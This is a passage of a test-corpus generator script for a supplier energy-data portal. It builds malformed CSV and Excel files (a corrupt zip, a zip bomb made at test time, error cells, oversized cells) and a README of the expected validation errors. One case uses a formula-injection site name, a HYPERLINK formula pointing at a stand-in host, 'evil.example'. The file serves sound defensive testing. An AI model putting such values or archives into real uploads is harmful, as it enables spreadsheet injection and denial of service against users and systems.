                row(bmw_share_percent="１２０", period="2024-02"),
            ],
            encoding="gbk",
        ),
        supplier_problems=[
            (
                2,
                "province",
                "“火星” is not a province: give its English or Chinese name or its GB/T 2260 code (e.g. 210000).",
            ),
            (2, "site_code", new_site("A9")),
            (3, "bmw_share_percent", "must be between 0 and 100"),
        ],
    ),
    # --- Workbooks ---------------------------------------------------------------------------
    Case(
        "61-not-a-workbook.xlsx",
        ["F1"],
        "a CSV file named .xlsx",
        [(None, None, "The file is named .xlsx but is not an Excel workbook.")],
        csv_of(row()),
    ),
    Case(
        "62-truncated.xlsx",
        ["F1"],
        "the first half of a valid workbook",
        [(None, None, "The Excel file is damaged and cannot be opened.")],
        lambda: _valid_xlsx()[: len(_valid_xlsx()) // 2],
        chinese={"The Excel file is damaged and cannot be opened.": "Excel 文件已损坏，无法打开。"},
    ),
    Case(
        "63-corrupt-sheet.xlsx",
        ["F1"],
        "a valid zip whose sheet XML is cut and followed by garbage",
        [(None, None, "The file is not an Excel workbook (.xlsx) that can be read.")],
        _corrupt_sheet_xlsx,
    ),
    Case(
        "64-word-document.xlsx",
        ["F1"],
        "a zip that is a Word document, not a workbook",
        [(None, None, "The file is not an Excel workbook (.xlsx) that can be read.")],
        _docx_like,
    ),
    Case(
        "65-zip-bomb.xlsx",
        ["F1"],
        "a workbook whose sheet unpacks to 60 MB (made at test time)",
        [(None, None, "The Excel file unpacks to an implausible size and is refused.")],
        zip_bomb_xlsx,
        generated=True,
    ),
    Case(
        "66-header-only.xlsx",
        ["F4"],
        "a workbook with the header and no row",
        [(None, None, "The file has a header but no rows.")],
        lambda: xlsx_bytes(xlsx_rows()),
    ),
    Case(
        "67-bad-cells.xlsx",
        ["R12", "R14", "R20"],
        "a workbook: share 150 %, a date as total (shown 2024-03-01), 1e300 as GEC",
        [
            (2, "bmw_share_percent", "must be between 0 and 100"),
            (3, "total_electricity", not_a_number("2024-03-01")),
            (4, "gec", "1.000E+300 MWh is implausibly large for one site; check the unit"),
        ],
        lambda: xlsx_bytes(
            xlsx_rows(
                *monthly(
                    row(total_electricity=1000, bmw_share_percent=150),
                    row(total_electricity=__import__("datetime").date(2024, 3, 1)),
                    row(total_electricity=1000, gec=1e300, certificate_ids="GEC-1"),
                )
            )
        ),
    ),
    Case(
        "68-error-cells.xlsx",
        ["R12", "R20"],
        "a workbook with #DIV/0!, #NUM! and #VALUE! cells (Excel's NaN and infinity)",
        [
            (2, "total_electricity", not_a_number("#DIV/0!")),
            (3, "onsite_renewable", not_a_number("#NUM!")),
            (4, "bmw_share_percent", not_a_number("#VALUE!")),
        ],
        lambda: xlsx_patched(
            xlsx_rows(
                *monthly(
                    row(total_electricity=11111),
                    row(total_electricity=1000, onsite_renewable=22222),
                    row(total_electricity=1000, bmw_share_percent=33333),
                )
            ),
            [
                (b'<c r="I2" t="n"><v>11111</v>', b'<c r="I2" t="e"><v>#DIV/0!</v>'),
                (b'<c r="J3" t="n"><v>22222</v>', b'<c r="J3" t="e"><v>#NUM!</v>'),
                (b'<c r="N4" t="n"><v>33333</v>', b'<c r="N4" t="e"><v>#VALUE!</v>'),
            ],
        ),
    ),
    Case(
        "71-nan-cell.xlsx",
        ["F1", "R12"],
        "a workbook (not saved by Excel) with NaN in a number cell",
        [(None, None, "The file is not an Excel workbook (.xlsx) that can be read.")],
        lambda: xlsx_patched(
            xlsx_rows(row(total_electricity=11111)), [(b'<c r="I2" t="n"><v>11111</v>', b'<c r="I2" t="n"><v>NaN</v>')]
        ),
    ),
    Case(
        "69-formula-text.xlsx",
        ["R18"],
        "a workbook whose site name is the text =HYPERLINK(…)",
        [(2, "site_name", FORMULA)],
        lambda: xlsx_bytes(
            xlsx_rows(row(total_electricity=1000, site_name='=HYPERLINK("http://evil.example","A1")')),
            text_cells=((2, 5),),
        ),
    ),
    Case(
        "70-big-file-one-bad-row.csv",
        ["R14", "R20"],
        "50 000 rows of sites of CN-A001 (new, or on record for the upload), row 37 123 with a share of 101 % "
        "(made at test time)",
        [(BIG_FILE_BAD_ROW, "bmw_share_percent", "must be between 0 and 100")],
        big_file_csv,
        generated=True,
    ),
    Case(
        "72-header-on-row-3.csv",
        ["F3"],
        "two blank rows, then a header with an unknown column (row 3)",
        [(3, "remarks", "is not a column of the submission format")],
        lambda: b"\n,,,\n" + csv_bytes([row(remarks="x")], header=(*COLUMNS, "remarks")),
    ),
    Case(
        "73-rows-numbered-across-blank-rows.csv",
        ["R14", "R20"],
        "blank rows between the rows: the bad row is row 6 of the spreadsheet",
        [(6, "bmw_share_percent", "must be between 0 and 100")],
        lambda: (
            csv_bytes([row(period="2024-Q1")])
            + b"\n,,\n\n"  # rows 3 to 5: blank, commas only, blank
            + csv_bytes([row(period="2024-Q2", bmw_share_percent="101")]).split(b"\n", 1)[1]
        ),
    ),
    Case(
        "75-formula-without-result.xlsx",
        ["F1", "R12"],
        "a workbook written by a program: GEC is the formula =100*2 with no result saved",
        [(2, "gec", FORMULA_WITHOUT_RESULT)],
        lambda: xlsx_bytes(xlsx_rows(row(total_electricity=1000, gec="=100*2", certificate_ids="GEC-1"))),
    ),
    Case(
        "76-merged-cells.xlsx",
        ["F7", "R20"],
        "a workbook whose supplier_code is merged down rows 2–3, read from its shown sheet (a hidden sheet before it)",
        [(2, "supplier_code", "is in merged cells A2:A3: unmerge them and fill in each cell")],
        lambda: _merged_xlsx(),
    ),
    Case(
        "74-huge-cell.csv",
        ["F6"],
        "a site name of 200 000 characters: more than a CSV cell may hold (made at test time)",
        [(2, None, "a cell is longer than 131072 characters")],
        csv_of(row(site_name="x" * 200_000)),
        generated=True,
    ),
]


def _cell(problems: list[Problem]) -> str:
    return "<br>".join(f"`{'—' if r is None else r} · {'—' if c is None else c} · {m}`" for r, c, m in problems)


def readme() -> str:
    lines = [
        "# Malformed submission files",
        "",
        "Each file breaks the submission format of `docs/formats.md` (or a rule the portal",
        "adds to it) and must be refused whole, naming every problem by row, column and reason, with",
        "nothing written: through `submissions_import`, the `import_submissions` command, the admin's",
        "import page and a supplier's bulk upload (`tests/reliability/test_malformed_files.py`, which",
        "reads the table below). Rows are numbered as the spreadsheet numbers them (the header is row 1);",
        "`—` is a problem of the whole file or row.",
        "",
        "The files are checked against a small world: supplier CN-A001 (USCC 91320500MA0000101M) with",
        "site A1 in Jiangsu and an approved 2023 line for A1; supplier CN-B001 (USCC 91320500MA0000202E);",
        "the periods of 2023 and 2024 open. The bulk upload is made by a user of CN-A001, so a row of",
        "another supplier is refused for that alone, and a row of a new site is refused (last column).",
        "",
        "`make_corpus.py` writes the files and this README; the two files marked *made at test time* are",
        "never committed (a zip bomb and 50 000 rows).",
        "",
        "## Rules",
        "",
        "| rule | |",
        "| --- | --- |",
        *(f"| {key} | {text} |" for key, text in RULES.items()),
        "",
        "## Files",
        "",
        "| file | rules | what is wrong | expected problems (row · column · reason) | supplier's own upload, if different |",
        "| --- | --- | --- | --- | --- |",
    ]
    for case in sorted(CASES, key=lambda c: c.name):
        supplier = _cell(case.supplier_problems) if case.supplier_problems is not None else "same"
        lines.append(
            f"| {case.name} | {', '.join(case.rules)} | {case.description} | {_cell(case.problems)} | {supplier} |"
        )
    return "\n".join(lines) + "\n"


def main() -> None:
    names = {case.name for case in CASES}
    for path in CORPUS.iterdir():
        if path.suffix in (".csv", ".xlsx") and path.name not in names:
            path.unlink()
    for case in CASES:
        if not case.generated:
            (CORPUS / case.name).write_bytes(case.content())
    (CORPUS / "README.md").write_text(readme(), encoding="utf-8")


if __name__ == "__main__":
    main()
